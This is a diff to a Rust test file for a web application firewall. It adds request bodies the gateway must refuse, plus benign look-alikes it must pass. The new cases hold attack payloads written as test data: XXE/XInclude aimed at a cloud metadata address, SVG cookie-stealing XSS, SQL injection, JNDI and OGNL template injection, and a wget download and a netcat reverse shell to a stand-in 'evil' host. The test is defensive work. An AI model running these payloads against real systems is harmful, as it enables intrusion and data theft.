@@ -650,6 +650,42 @@ async fn what_an_outside_attack_found_is_refused_and_look_alikes_pass() {
         (json, r#"{"v":"{{['id']|filter('system')}}"}"#.into(), "waf.template"),
         (json, r#"{"v":"${${lower:jndi:ldap}://x.evil.example/a}"}"#.into(), "waf.jndi"),
         (json, r#"{"v":"${jnd${lower:i${x:k5:-:}}ldap://x.evil.example/a}"}"#.into(), "waf.jndi"),
+        // The second round.
+        (
+            xml,
+            "<a xmlns:xi='http://www.w3.org/2003/XInclude'><xi:include href='http://169.254.169.254/'/></a>".into(),
+            "waf.xxe",
+        ),
+        (
+            xml,
+            "<a xmlns:xi='http://www.w3.org/2001/XInclud&#101;'><xi:include href='http://x/'/></a>".into(),
+            "waf.xxe",
+        ),
+        (xml, r#"<!DOCTYPE a [<!ATTLIST a b CDATA "1' union select 1--">]><a>ok</a>"#.into(), "waf.xxe"),
+        (xml, "<?xml version='1.0' encoding='UTF-7'?><a>+ADw-script+AD4-</a>".into(), "waf.body_unparsable"),
+        (xml, "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(document.cookie)</script></svg>".into(), "waf.xss"),
+        (xml, "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><g/></svg>".into(), "waf.xss"),
+        (
+            multipart,
+            "--XB\r\nContent-Disposition: form-data; name=\"b\"\r\n\r\nok\r\n--XB--\r\n--XB\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n--XB--\r\n".into(),
+            "waf.body_unparsable",
+        ),
+        (multipart, part("name=\"a\"; filename*=UTF-8''x.txt", "1' OR '1'='1"), "waf.sqli"),
+        (
+            multipart,
+            "--XB\r\nContent-Disposition: form-data;\r\n name=\"pass[$ne]\"\r\n\r\nx\r\n--XB--\r\n".into(),
+            "waf.body_unparsable",
+        ),
+        (
+            multipart,
+            "--XB\r\nContent-Disposition: form-data; name=\"q\"\r\nContent-Transfer-Encoding: base64\r\n\r\nMScgT1IgJzEnPScx\r\n--XB--\r\n".into(),
+            "waf.body_unparsable",
+        ),
+        ("text/plain", r#"{"a":"1\u0027 union select password from users--"}"#.into(), "waf.sqli"),
+        (json, r#"{"v":"`wget evil/x -O /tmp/x`"}"#.into(), "waf.rce"),
+        (json, r#"{"v":";busybox nc evil.example 1 -e sh"}"#.into(), "waf.rce"),
+        (json, r#"{"v":"%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}"}"#.into(), "waf.template"),
+        (json, r#"{"v":"{system('id')}"}"#.into(), "waf.template"),
     ];
     for (content_type, body, reason) in &refused {
         let resp = post(&gw, "/guarded/x", content_type, body).await;
@@ -702,6 +738,11 @@ async fn what_an_outside_attack_found_is_refused_and_look_alikes_pass() {
         (
             multipart,
             part(r#"name="upload"; filename="report.pdf""#, "%PDF-1.7 binary-ish content"),
+        ),
+        (json, r#"{"settings":"{theme: dark, config: compact}"}"#.into()),
+        (
+            xml,
+            "<soap:Envelope xmlns:soap='http://schemas.xmlsoap.org/soap/envelope/'><soap:Body><order id='1' xml:lang='en'>Tea</order></soap:Body></soap:Envelope>".into(),
         ),
     ];
     for (content_type, body) in &benign {
